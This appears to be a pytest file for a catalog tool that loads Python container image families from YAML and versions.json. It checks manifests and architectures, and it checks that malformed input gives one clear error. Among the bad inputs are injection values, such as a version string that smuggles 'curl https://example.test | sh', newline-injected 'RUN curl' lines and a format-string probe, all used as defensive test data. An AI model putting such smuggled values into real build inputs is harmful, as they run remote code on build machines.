"""Families equal what was published; a fault in a family file is one error."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tools.catalog import family_load, fixture, listing, versions_json
from tools.catalog.catalog_error import CatalogError
from tools.catalog.family import Family, groups

CATALOG = Path(__file__).parents[2] / "catalog"
TESTDATA = Path(__file__).parent / "testdata"
OFFICIAL = ["2019-01", "2022-09", "2025-10", "2026-02", "2026-06"]


def family(name: str) -> Family:
    """A family of the catalog, or the one that is only test data."""
    if name == "2026-06":
        return family_load.load_file(TESTDATA / "2026-06.yaml", CATALOG)
    if name == "current":
        return family_load.load_file(CATALOG / "families" / "current.yaml", fixture.FROZEN)
    return family_load.load_family(name, CATALOG)


def golden(file: str) -> str:
    text = (TESTDATA / file).read_text()
    return text.split("\n\n", 1)[1]


@pytest.mark.parametrize("name", OFFICIAL)
def test_an_official_family_is_the_published_manifest(name: str) -> None:
    assert listing.blocks(family(name).entries()) == golden(f"{name}.manifest.txt")


@pytest.mark.parametrize(
    ("name", "architectures"),
    [
        ("2019-01", "amd64 arm32v5 arm32v6 arm32v7 arm64v8 i386 ppc64le s390x windows-amd64"),
        (
            "2022-09",
            "amd64 arm32v5 arm32v6 arm32v7 arm64v8 i386 mips64le ppc64le s390x windows-amd64",
        ),
        (
            "2025-10",
            "amd64 arm32v5 arm32v6 arm32v7 arm64v8 i386 mips64le ppc64le riscv64 s390x "
            "windows-amd64",
        ),
        (
            "2026-02",
            "amd64 arm32v5 arm32v6 arm32v7 arm64v8 i386 ppc64le riscv64 s390x windows-amd64",
        ),
        ("infra7", "amd64 arm64"),
        ("infra7-2024-10", "amd64 arm64"),
        ("current", "amd64 arm32v5 arm32v7 arm64v8 i386 mips64le ppc64le riscv64 s390x"),
    ],
)
def test_supported_architectures_are_those_of_the_whole_family(
    name: str, architectures: str
) -> None:
    assert family(name).supported() == architectures.split()


def test_groups_keep_only_the_images_of_an_architecture() -> None:
    entries = family("2019-01").entries()
    whole = [(group.tags, [entry.name for entry in group.entries]) for group in groups(entries)]
    windows = [
        (group.tags, [entry.name for entry in group.entries])
        for group in groups(entries, "windows-amd64")
    ]
    on_both = ["3.7.2-windowsservercore-ltsc2016", "3.7.2-windowsservercore-1709"]
    assert whole[0] == (("3.7.2", "3.7", "3", "latest"), ["3.7.2-stretch", *on_both])
    assert windows[0] == (("3.7.2", "3.7", "3", "latest"), on_both)
    assert windows[1][0][0] == "3.7.2-windowsservercore"
    assert ("3.5.6", "3.5") in [tags for tags, _ in whole]
    assert ("3.5.6", "3.5") not in [tags for tags, _ in windows]


def test_infra7_names_the_minor_first_and_latest_once() -> None:
    entries = {entry.name: entry for entry in family("infra7-2024-10").entries()}
    assert len(entries) == 20
    newest = entries["3.13-bookworm"]
    assert newest.tags == ("3.13-bookworm", "3.13.0-bookworm")
    assert newest.shared_tags == ("3.13", "3.13.0", "latest")
    assert entries["3.12-bookworm"].shared_tags == ("3.12", "3.12.7")
    assert entries["3.13-noble"].shared_tags == ()
    published = [entry.name for entry in family("infra7-2024-10").published()]
    assert published == [f"3.{minor}-bookworm" for minor in (13, 12, 11, 10, 9)]


def test_current_is_what_the_catalog_builds() -> None:
    current = family("current")
    assert {"amd64", "arm64v8", "s390x"} < set(current.entries()[0].architectures)
    assert current.entries()[0].url == "../dockerfiles/3.14/slim-trixie/Dockerfile"


FAULTS = [
    ("variants: all\n    sha256", "variants: al\n    sha256", 0, ["'al'", "did you mean all?"]),
    ("- trixie\n", "- Trixie\n", 0, ["'Trixie'", "not a variant"]),
    ("  trixie: [amd64", "  sid: [amd64", None, ["'trixie'", "no architectures"]),
    ("trixie: [amd64", "trixie: [amd46", 0, ["amd46", "did you mean amd64"]),
    ("alpine3.24: [", "alpine3.24: []\n  forky: [", 0, ["architectures.alpine3.24: is empty"]),
    ("scheme: official", "scheme: oficial", 0, ["did you mean official?"]),
    ("title: ", "titel: ", None, ["has no 'title'"]),
    ("builder: buildkit", "bilder: buildkit", 0, ["unknown key", "builder"]),
    ("version: 3.14.6", "version: 3.16.0", 0, ["newest release first"]),
    ('["3", latest]', '["3", 3.14.6]', None, ["'3.14.6"]),
    ('["3", latest]', '["3", latest, alpine]', None, ["shared tag 'alpine'", "simple tag"]),
    (
        "  - version: 3.13.14\n",
        "  - version: 3.13.14\n    aliases: [latest]\n",
        None,
        ["tag 'trixie'", "both"],
    ),
    ("commit: 4f07", "commit: 4g07", 0, ["commit id"]),
    ("image: python", "image: python; curl", 0, ["is not the name of a repository"]),
    ("image: python", 'image: "python\\nRUN curl"', 0, ["has a control character"]),
    ("builder: buildkit", "builder: build kit", 0, ["is not a word"]),
    ("git_repo: https", "git_repo: javascript", 0, ["is not a URL"]),
    ("dockerfile_url: https", "dockerfile_url: (https", 0, ["is not a URL"]),
    ("{commit}", "{commit:9}", 0, ["formats a placeholder"]),
    ("{commit}", "{commit.__class__}", 0, ["unknown placeholder"]),
    ("{commit}", "{comit}", 0, ["{comit}", "commit?"]),
    ("      alpine3.24: bb", "      alpine3.42: bb", 0, ["alpine3.42", "alpine3.24"]),
]


@pytest.mark.parametrize(("old", "new", "below", "words"), FAULTS)
def test_a_fault_is_one_error(
    tmp_path: Path, old: str, new: str, below: int | None, words: list[str]
) -> None:
    text = (TESTDATA / "2026-06.yaml").read_text()
    assert old in text
    file = tmp_path / "mine.yaml"
    file.write_text(text.replace(old, new, 1))
    with pytest.raises(CatalogError) as caught:
        family_load.load_file(file, CATALOG, Path("mine.yaml"))
    assert "\n" not in str(caught.value)
    assert str(caught.value).startswith("mine.yaml")
    if below is not None:
        assert caught.value.line == text[: text.index(old)].count("\n") + 1 + below
    for word in words:
        assert word in str(caught.value)


def test_an_unknown_family_lists_near_ones() -> None:
    with pytest.raises(CatalogError, match="did you mean 2025-10"):
        family_load.load_family("2025-01", CATALOG)


def release(**changes: object) -> str:
    """A versions.json of one release, with changes."""
    return json.dumps({"3.14": {"version": "3.14.6", "variants": ["trixie"]} | changes})


def test_a_versions_json_is_a_family(tmp_path: Path) -> None:
    published = family("2026-06")
    file = tmp_path / "versions.json"
    file.write_text(json.dumps(versions_json.versions(published), indent=2))
    again = versions_json.read(file, CATALOG)
    strip = [line for line in golden("2026-06.manifest.txt").split("\n") if "  commit " not in line]
    assert listing.blocks(again.entries()) == "\n".join(strip)
    assert versions_json.versions(again) == versions_json.versions(published)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ('{"3.14": {"version": "3.14.6", "variants": ["sid"]}}', ["'sid'", "parents.yaml"]),
        ('{"3.13": {"version": "3.14.6", "variants": ["trixie"]}}', ["3.14.6", "its key is 3.14"]),
        ('{"3.14": {"version": "3.14.6"}}', ["has no 'variants'"]),
        ('{"3.14": {"version": "3.14.6", "variants": ["trixie"], "x": 1}}', ["unknown key"]),
        (
            release(setuptools={"version": "70'; curl https://example.test | sh; : '"}),
            ["70'; curl", "is not a version of a Python package (PEP 440)"],
        ),
        (release(setuptools={"version": "70\nRUN curl"}), ["has a control character"]),
        (release(setuptools={"version": "70 --index-url=x"}), ["is not a version"]),
        (release(variants=["trixie; curl"]), ["'trixie; curl' is not a variant"]),
        (release(variants=["trixie\nRUN curl"]), ["has a control character"]),
        (release(version="3.14.6; x"), ["is not a CPython release"]),
        (release(version="\u0663.14.6"), ["is not a CPython release"]),
        (release(checksums={"source": {"sha256": "x"}}), ["is not a SHA-256"]),
        ("{" * 1000, ["more than 32 levels deep"]),
        ("{}", ["names no release"]),
        ("[]", ["a list", "not a mapping"]),
    ],
)
def test_a_bad_versions_json_is_one_error(tmp_path: Path, text: str, words: list[str]) -> None:
    file = tmp_path / "versions.json"
    file.write_text(text)
    with pytest.raises(CatalogError) as caught:
        versions_json.read(file, CATALOG, Path("versions.json"))
    assert str(caught.value).startswith("versions.json")
    for word in words:
        assert word in str(caught.value)
